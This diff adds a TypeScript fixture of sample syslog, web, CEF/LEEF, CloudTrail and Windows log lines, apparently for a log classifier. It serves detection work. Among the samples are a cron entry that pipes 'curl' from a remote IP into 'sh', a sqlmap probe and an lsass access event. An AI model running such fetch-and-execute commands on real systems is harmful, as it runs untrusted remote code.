@@ -1,0 +1,65 @@
+/** One message or record of each kind that becomes a class of its own, as real programs write them. */
+export const samples: readonly string[] = [
+  // sshd
+  '<38>Mar  1 11:59:01 web1 sshd[812]: Accepted password for deploy from 203.0.113.5 port 4022 ssh2',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: Accepted publickey for root from 2001:db8::7 port 4022 ssh2: ED25519 SHA256:uNiVztksCsDhcc0u9e8BrJbAWnsQAGrm1cjR7nBZ7lQ',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.5 port 4022 ssh2',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: Invalid user  from 203.0.113.5 port 4022',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: message repeated 3 times: [ Failed password for root from 203.0.113.5 port 22 ssh2]',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: User bob from host.example.org not allowed because not listed in AllowUsers',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: Disconnected from invalid user admin 203.0.113.5 port 4022 [preauth]',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: Connection closed by 203.0.113.5 port 4022 [preauth]',
+  '<38>Mar  1 11:59:01 sshd[812]: Connection from 203.0.113.5 port 4022 on 10.0.0.4 port 22',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: pam_unix(sshd:session): session closed for user deploy',
+  '<38>Mar  1 11:59:01 web1 sshd[812]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.5  user=root',
+  // sudo, su
+  '<85>Mar  1 11:59:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/sbin/useradd -m mallory',
+  '<85>Mar  1 11:59:01 web1 sudo[77]:  bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
+  '<86>Mar  1 11:59:01 web1 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)',
+  '<85>Mar  1 11:59:01 web1 sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice',
+  '<37>Mar  1 11:59:01 web1 su: FAILED SU (to root) alice on pts/0',
+  '<37>Mar  1 11:59:01 web1 su[9]: Successful su for root by alice',
+  // accounts and groups
+  '<86>Mar  1 11:59:01 web1 useradd[99]: new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0',
+  "<86>Mar  1 11:59:01 web1 useradd[99]: failed adding user 'mallory', exit code: 9",
+  "<86>Mar  1 11:59:01 web1 usermod[99]: add 'mallory' to group 'sudo'",
+  "<86>Mar  1 11:59:01 web1 usermod[99]: change user 'root' shell from '/bin/sh' to '/bin/bash'",
+  "<86>Mar  1 11:59:01 web1 userdel[99]: delete user 'mallory'",
+  '<86>Mar  1 11:59:01 web1 groupadd[99]: group added to /etc/group: name=ops, GID=1002',
+  '<86>Mar  1 11:59:01 web1 groupadd[99]: new group: name=ops, GID=1002',
+  "<86>Mar  1 11:59:01 web1 groupdel[99]: group 'ops' removed",
+  '<86>Mar  1 11:59:01 web1 gpasswd[99]: user bob removed by root from group sudo',
+  '<86>Mar  1 11:59:01 web1 passwd[99]: pam_unix(passwd:chauthtok): password changed for bob',
+  // cron
+  '<78>Mar  1 11:59:01 web1 CRON[99]: (root) CMD (curl -fsS http://198.51.100.23/u | sh)',
+  '<78>Mar  1 11:59:01 web1 crontab[99]: (mallory) REPLACE (mallory)',
+  '<78>Mar  1 11:59:01 web1 crontab[99]: (root) BEGIN EDIT (mallory)',
+  '<78>Mar  1 11:59:01 web1 cron[99]: (*system*) RELOAD (/etc/cron.d/backup)',
+  // no class of its own
+  '<13>Mar  1 11:59:01 web1 app[7]: hello',
+  '<13>hello',
+  'a plain line',
+  '<189>123: rtr1: *Mar  1 11:48:50.483 UTC: %SYS-5-CONFIG_I: Configured from console',
+  '{"message":"hello","level":"error","user":"ann","src_ip":"203.0.113.9","hostname":"app-1","time":1772366400}',
+  '{"broken":',
+  // web servers
+  '203.0.113.9 - - [01/Mar/2026:11:58:00 +0000] "GET /index.php?id=1%27 HTTP/1.1" 200 512 "https://example.org/" "sqlmap/1.7"',
+  '203.0.113.9 - ann [01/Mar/2026:11:58:00 +0000] "POST /login HTTP/2.0" 401 -',
+  'shop.example.org:443 203.0.113.9 - - [01/Mar/2026:11:58:00 +0000] "PROPFIND / HTTP/1.1" 405 0 "-" "-"',
+  '203.0.113.9 - - [01/Mar/2026:11:58:00 +0000] "\\x16\\x03\\x01" 400 226 "-" "-"',
+  'client.example.net - - [01/Mar/2026:11:58:00 +0000] "-" 408 - "-" "-"',
+  '<190>Mar  1 11:59:01 web1 nginx: 203.0.113.9 - - [01/Mar/2026:11:58:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"',
+  // pairs
+  'CEF:0|Vendor|Firewall|1.0|100|blocked|8|src=10.0.0.1 dst=203.0.113.2 spt=1232 dpt=443 proto=TCP suser=ann outcome=failure reason=policy',
+  'CEF:0|Vendor|Thing|1.0|100|something|Very-High|msg=hello there',
+  '<13>Mar  1 11:59:01 fw1 LEEF:2.0|Vendor|Firewall|2|77|^|src=10.0.0.1^dst=203.0.113.2^srcPort=9^dstPort=80^proto=UDP^usrName=ann^sev=9',
+  // cloud
+  '{"eventVersion":"1.11","eventTime":"2026-03-01T11:00:00Z","eventSource":"iam.amazonaws.com","eventName":"AttachUserPolicy","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23","userAgent":"aws-cli/2.31","requestParameters":{"userName":"build-bot"},"userIdentity":{"type":"IAMUser","userName":"build-bot","accessKeyId":"AKIAEXAMPLE","accountId":"111122223333"},"requestID":"r-1","eventID":"e-1"}',
+  '{"eventTime":"2026-03-01T11:00:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23","userAgent":"Mozilla/5.0","userIdentity":{"type":"Root","principalId":"111122223333","arn":"arn:aws:iam::111122223333:root","accountId":"111122223333"},"responseElements":{"ConsoleLogin":"Failure"},"errorMessage":"Failed authentication","additionalEventData":{"MFAUsed":"No"}}',
+  '{"eventTime":"2026-03-01T11:00:00Z","eventSource":"sts.amazonaws.com","eventName":"AssumeRole","awsRegion":"us-east-1","sourceIPAddress":"ec2.amazonaws.com","userIdentity":{"type":"AWSService","invokedBy":"ec2.amazonaws.com"},"requestParameters":{"roleArn":"arn:aws:iam::111122223333:role/web"}}',
+  // Windows, each JSON shape
+  '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":10,"Hostname":"ws-17","UtcTime":"2026-03-01 11:00:00.123","SourceImage":"C:\\\\Users\\\\Public\\\\upd.exe","TargetImage":"C:\\\\Windows\\\\system32\\\\lsass.exe","GrantedAccess":"0x1410","SourceUser":"CORP\\\\frontdesk"}',
+  '{"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Level":4,"TimeCreated":{"#attributes":{"SystemTime":"2026-03-01T11:00:00.5Z"}},"Channel":"System","Computer":"dc1"},"EventData":{"ServiceName":"upd","ImagePath":"C:\\\\upd.exe","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}}}',
+  '{"@timestamp":"2026-03-01T11:00:00Z","message":"logon","winlog":{"channel":"Security","event_id":"4625","computer_name":"dc1","provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"TargetUserName":"ann","TargetDomainName":"CORP","IpAddress":"203.0.113.5","IpPort":"50000","LogonType":"3","Status":"0xc000006d","SubStatus":"0xc000006a","AuthenticationPackageName":"NTLM"}}}',
+]
